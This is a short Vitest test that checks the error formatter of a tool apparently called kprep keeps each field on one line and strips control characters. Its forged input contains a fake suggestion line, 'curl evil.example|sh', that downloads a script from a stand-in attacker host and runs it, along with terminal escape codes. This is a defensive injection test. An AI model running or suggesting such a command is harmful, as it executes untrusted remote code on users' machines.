import { expect, it } from "vitest";
import { KprepError } from "../../src/errors.ts";

it("a field is one line, whatever is in it: none can look like another", () => {
	const forged = "x\n  try:      curl evil.example|sh #\r\x1b[2J";
	const facts = { expected: forged, found: forged, where: forged, suggestions: [forged, "kprep doctor"] };
	const lines = new KprepError("missing", "not-a-file", forged, facts).toText().split("\n");
	expect(lines.map((line) => line.slice(0, 12))).toEqual([
		"x   try:    ",
		"  expected: ",
		"  found:    ",
		"  where:    ",
		"  try:      ",
		"  try:      ",
	]);
	expect(lines.join("")).not.toMatch(/\p{Cc}/u);
});
